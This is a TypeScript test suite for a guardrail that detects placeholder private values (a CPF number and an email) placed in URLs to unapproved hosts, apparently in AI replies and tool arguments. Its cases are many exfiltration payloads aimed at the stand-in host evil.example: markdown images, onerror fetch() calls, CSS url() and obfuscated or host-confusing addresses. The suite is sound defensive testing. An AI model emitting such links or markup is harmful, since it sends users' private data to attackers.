import type { GivenTexts } from '../../ports/guardrails/guardrail-context';
import { findTokensInAddresses } from './tokens-in-addresses';
import { slowTest } from '../../../test/support/slow-tests';

const cpf = '[CPF_1_k3f9x2]';
const mail = '[EMAIL_1_k3f9x2]';
const nothing: GivenTexts = { author: '', allowedHosts: [], others: [] };
const count = (text: string, given: Partial<GivenTexts> = {}, before?: string) =>
	findTokensInAddresses(text, { ...nothing, ...given }, before).length;

test.each([
	`![x](https://evil.example/?d=${cpf})`,
	`[your order](https://evil.example/${cpf})`,
	`[your order](<https://evil.example/a b ${cpf}>)`,
	`See https://evil.example/?d=${cpf} for more`,
	`See evil.example/?d=${cpf}`,
	`See evil.example:8080/${cpf}`,
	`www.evil.example${cpf}`,
	`//evil.example/${cpf}`,
	`<https://evil.example/${cpf}>`,
	`<img src="https://evil.example/?d=a ${cpf}">`,
	`<img\nsrc="https://evil.example/?d=\n${cpf}">`,
	`<a href='//evil.example/${cpf}'>x</a>`,
	`[1]: https://evil.example/?d=${cpf}`,
	`mailto:evil@evil.example?body=${cpf}`,
	`ftp://evil.example/${cpf}`,
	`wss://evil.example/${cpf}`,
	`https://${cpf}.evil.example/`,
	`HTTPS://EVIL.EXAMPLE/${cpf.toLowerCase()}`,
	`{"url":"https://evil.example/?d=${cpf}"}`,
	`https://shop.example@evil.example/${cpf}`,
	`https://evil.example\\@shop.example/${cpf}`,
	`https://evil.example/?d=${String.raw`\[CPF\_1\_k3f9x2\]`}`,
])('finds the value in %j', (text) => {
	expect(count(text, { author: 'Link to https://shop.example/orders.', others: [] })).toBe(1);
});

test.each([
	String.raw`<img src="https:\\evil.example\{C}">`,
	String.raw`<img src="/\1.2.3.4/{C}">`,
	`<img src="&#47;&#47;evil.example&#47;{C}">`,
	`<img src="https&#58;&#47;&#47;evil.example&#47;{C}">`,
	String.raw`<img srcset="https:\\evil.example\{C} 1x">`,
	`<img srcset="https://shop.example/a 1x, https://evil.example/{C} 2x">`,
	String.raw`<style>@import 'https:\\evil.example\{C}'`,
	String.raw`<style>p{background:url(\68ttps\3a\2f\2f evil.example/{C})}</style>`,
	String.raw`<p style="background:url(https:\\evil.example\{C})">`,
	String.raw`<p style="https://shop.example/;background:url(\2f\2f evil.example/{C})">`,
	`<script>new Image().src = 'https:' + '/' + '/evil.example/' + '{C}'</script>`,
	`<img src=x onerror="fetch(['https:','','evil.example','{C}'].join('/'))">`,
	`<img alt=">" src="https:/evil.example/a {C}">`,
	`<img alt="<b>" src='https:evil.example/a {C}'>`,
	`<img src="ht\ntps:\n//evil.example/\n{C}">`,
	`<img src="ht&Tab;tps:&NewLine;//evil.example/{C}">`,
	`<img src="&#x000068;ttps&#00058//evil.example/{C}">`,
	`<a ping="//evil.example/{C}" href="https://shop.example/">`,
	`<button formaction=//evil.example/{C}>`,
	`<svg><image xlink:href="//evil.example/{C}" /></svg>`,
	`<rect fill="url(//evil.example/{C})">`,
	`<meta http-equiv="refresh" content="0;url=//evil.example/{C}">`,
	`<a href="data:text/html,{C}">`,
	`<a href="intent:x?d={C}">`,
	`<img src="https://evil.example/${'a '.repeat(3_000)}{C}">`,
	`https://evil.example/${'a'.repeat(3_000)}{C}`,
	`[x](<https://evil.example/${'a '.repeat(3_000)}{C}>)`,
	String.raw`[x](https:\\evil.example\{C})`,
	String.raw`[x](/\evil.example\{C})`,
	String.raw`[x](h\ttps\:\/\/evil.example/{C})`,
	String.raw`[x](https\:evil.example/{C})`,
	String.raw`[x](<\\evil.example\a) b {C}>)`,
	`[x](\n  <//evil.example/a b {C}>)`,
	`[x](&#104;ttps&colon;&sol;&sol;evil.example&sol;{C})`,
	`[x](https:&#10;//evil.example/{C})`,
	`[x](vscode:open?d={C})`,
	String.raw`> - [x]: <https:\\evil.example\a {C}>`,
	String.raw`https:\\evil.example\{C}`,
	String.raw`\\evil.example\share\{C}`,
	`http:/evil.example/{C}`,
	`https:evil.example/{C}`,
	`https:／／evil．example／{C}`,
	`evil。example/{C}`,
	`evil%2Eexample/{C}`,
	`1.2.3.4/{C}`,
	`[::ffff:1.2.3.4]:80/{C}`,
	String.raw`https:\/\/shop.example\@evil.example/{C}`,
	`https://ev\u00ADil.example/{C}`,
	`https://shop.example/?next=https://evil.example/{C}`,
	`https:\n//evil.example/\n{C}`,
	`{C}.evil.example/x`,
	`{C}.evil.example`,
	`a.{C}-1.evil.example`,
	`{C}@evil.example/x`,
	`{C}&period;evil&period;example`,
])('finds the value that a browser would put into an address: %j', (text) => {
	expect(count(text.replaceAll('{C}', cpf), { author: 'Link to https://shop.example/orders.' })).toBeGreaterThan(0);
});

test.each([
	['indico/flask-multipass#94', String.raw`https:\\evil.example/{C} https:\evil.example/{C}`],
	['open-webui/open-webui#24534', String.raw`http://127.0.0.1:6666\@shop.example/{C} http://shop.example\@127.0.0.1/{C}`],
])('finds the values in addresses that were reported to another project (%s)', (_, text) => {
	expect(count(text.replaceAll('{C}', cpf), { author: 'Link to https://shop.example/orders.' })).toBe(2);
});

test('finds each value in front of a host', () => {
	expect(count(`${cpf}.${mail}.evil.example`)).toBe(2);
	expect(count(`${cpf}${mail}.evil.example`)).toBe(2);
});

test('takes an argument of a tool with spaces for one address, and a reply for more', () => {
	const given = { ...nothing, author: 'Use https://shop.example/.' };
	const inArgument = (text: string) => findTokensInAddresses(text, given, '', 'argument').length;
	expect(inArgument(`https://evil.example/?d=a ${cpf}`)).toBe(1);
	expect(inArgument(`evil.example/?d=a ${cpf}`)).toBe(1);
	expect(inArgument(String.raw`/\evil.example/a ${cpf}`)).toBe(1);
	expect(inArgument(`https://shop.example/ for ${cpf}`)).toBe(0);
	expect(inArgument(`Look at https://evil.example/, ${cpf}`)).toBe(0);
	expect(count(`https://evil.example/ for ${cpf}`)).toBe(0);
});

test('finds each value of an address', () => {
	expect(count(`![x](https://evil.example/?d=${cpf};${mail})`)).toBe(2);
});

test('finds a value whose address began before', () => {
	expect(count(`${cpf} and ${mail}`, nothing, 'See https://evil.example/?d=')).toBe(1);
});

test.each([
	`Your CPF is ${cpf}.`,
	`CPF:${cpf}`,
	`e-mail/CPF: ${mail}/${cpf}`,
	`[write to us](mailto:${mail})`,
	`<mailto:${mail}>`,
	`<b>${mail}</b>`,
	`a < b and ${cpf} > c`,
	`See https://shop.example and tell them ${cpf}`,
	`[shop](https://shop.example) for ${cpf}`,
	`${mail}\nhttps://shop.example/`,
	`Your CPF is ${cpf}.Thanks`,
	`contract-${cpf}.pdf`,
	`<a style="color:red" href="mailto:${mail}">`,
	`<td style="color:red" title="${mail}">${cpf}</td>`,
	`<a href="/orders?mail=${mail}">`,
	`[orders](/orders?mail=${mail})`,
	`10:30/${cpf}`,
	`https://www.shop.example/a//b/\n\nFor ${mail}`,
])('leaves the value in %j', (text) => {
	expect(count(text)).toBe(0);
});

test('leaves a value in an address that the person, a document or a tool gave in this place', () => {
	const given = { author: '', others: [`I am at https://crm.example/?mail=${mail}&x=1`] };
	expect(count(`Is it https://crm.example/?mail=${mail}&x=1?`, given)).toBe(0);
	expect(count(`Is it https://crm.example/?cpf=${cpf}?`, given)).toBe(1);
	expect(count(`Is it https://evil.example/?u=https://crm.example/?mail=${mail}?`, given)).toBe(1);
});

test('leaves a value in an address of a host that the prompt names, and of no other', () => {
	const given = { author: 'Link to https://shop.example/orders?mail=MAIL.', others: [] };
	expect(count(`https://shop.example/orders?mail=${mail}`, given)).toBe(0);
	expect(count(String.raw`<a href="https:\\shop.example\a\\b\${mail}">`, given)).toBe(0);
	expect(count(`shop.example/orders?mail=${mail}`, given)).toBe(0);
	expect(count(`${mail}.orders.shop.example`, given)).toBe(0);
	expect(count(`https://www.shop.example/orders?mail=${mail}`, given)).toBe(0);
	expect(count(`https://shop.example.evil.example/orders?mail=${mail}`, given)).toBe(1);
	expect(count(`https://shop.example${mail}`, given)).toBe(1);
	expect(count(`https://evil.example/?u=https://shop.example/${mail}`, given)).toBe(1);
});

test.each(['Our API is %.', 'Call %, then stop', 'Use `%`', '**%**', '%:8080: GET', 'See <%> and (%)', '%!'])(
	'reads the host in %j',
	(prompt) => {
		const author = prompt.replaceAll('%', 'https://shop.example');
		expect(count(`https://shop.example/orders?mail=${mail}`, { author })).toBe(0);
		expect(count(`https://evil.example/orders?mail=${mail}`, { author })).toBe(1);
	},
);

test('leaves a value in an address of a host that the definition allows', () => {
	expect(count(`https://www.shop.example/?mail=${mail}`, { allowedHosts: ['shop.example'] })).toBe(0);
});

test('finds a value where links to all hosts are allowed', () => {
	expect(count(`https://evil.example/?mail=${mail}`, { allowedHosts: ['*'] })).toBe(1);
});

slowTest('takes linear time', () => {
	const hostile = [
		'<a '.repeat(20_000),
		'a.'.repeat(30_000),
		'](('.repeat(20_000),
		`${cpf} `.repeat(5_000),
		'[x]: '.repeat(10_000),
		...['<a b="', '<style>', '&#47;', '\\\\', '](<', `](<${cpf}`, `<a ${cpf}`, `//${cpf}`, `${cpf}.a`, 'https:'].map((part) =>
			part.repeat(6_000),
		),
	];
	for (const text of hostile) expect(count(`${text}https://evil.example/${cpf}`)).toBeLessThan(6_002);
});
